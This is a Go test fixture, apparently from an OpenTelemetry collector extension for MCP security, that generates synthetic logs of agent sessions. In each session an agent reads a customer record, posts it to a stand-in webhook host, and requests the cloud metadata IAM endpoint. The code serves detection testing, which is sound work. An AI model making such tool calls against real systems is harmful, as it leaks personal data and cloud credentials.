// Copyright The otelcol-mcp Authors
// SPDX-License-Identifier: Apache-2.0

package rig

import (
	"crypto/sha256"
	"fmt"
	"strconv"
	"time"

	"go.opentelemetry.io/collector/pdata/plog"
)

// Attacks makes n sessions from number first on, in two halves. In the first each reads a customer's record; in the second
// it posts it to a webhook and asks for an address of the cloud's metadata service.
func Attacks(first, n int) (read, send plog.Logs) {
	read, send = plog.NewLogs(), plog.NewLogs()
	reads, sends := newScope(read), newScope(send)
	start := time.Now().Add(-30 * time.Minute).Truncate(10 * time.Minute)
	for i := first; i < first+n; i++ {
		at := start.Add(time.Duration(i) * time.Second)
		sum := sha256.Sum256([]byte(strconv.Itoa(i)))
		record := fmt.Sprintf("Customer %d: %x, Example Street %d, account %x", i, sum[:12], i, sum[12:24])
		attack(reads.AppendEmpty(), i, 1, at, "crm", "query_customers", map[string]any{"id": int64(i)}, record, nil)
		attack(sends.AppendEmpty(), i, 2, at.Add(10*time.Second), "web", "post_webhook",
			map[string]any{"url": "https://collect.example.net/in", "body": record}, "ok", map[string]any{"mcpsec.tool.open_world": true})
		attack(sends.AppendEmpty(), i, 3, at.Add(20*time.Second), "web", "fetch",
			map[string]any{"url": "http://169.254.169.254/latest/meta-data/iam/"}, "denied", map[string]any{"mcpsec.outcome": "access_denied"})
	}
	return read, send
}

func attack(r plog.LogRecord, session, id int, at time.Time, server, tool string, arguments map[string]any, result string, more map[string]any) {
	stamp(r, at, plog.SeverityNumberInfo)
	attrs := call(tool, "success", more)
	attrs["mcpsec.session.key"] = fmt.Sprintf("[mcp-session:k1:%016x]", session+1)
	attrs["mcpsec.session.key_source"] = "transport"
	attrs["mcpsec.server.name"] = server
	attrs["user.id"] = fmt.Sprintf("user-%d", session)
	attrs["client.address"] = fmt.Sprintf("192.0.2.%d", session%200+1)
	attrs["jsonrpc.request.id"] = strconv.Itoa(id)
	attrs["gen_ai.tool.call.arguments"] = arguments
	attrs["gen_ai.tool.call.result"] = map[string]any{"content": []any{map[string]any{"type": "text", "text": result}}}
	event(r, "mcp.operation", "tools/call "+tool, attrs)
}
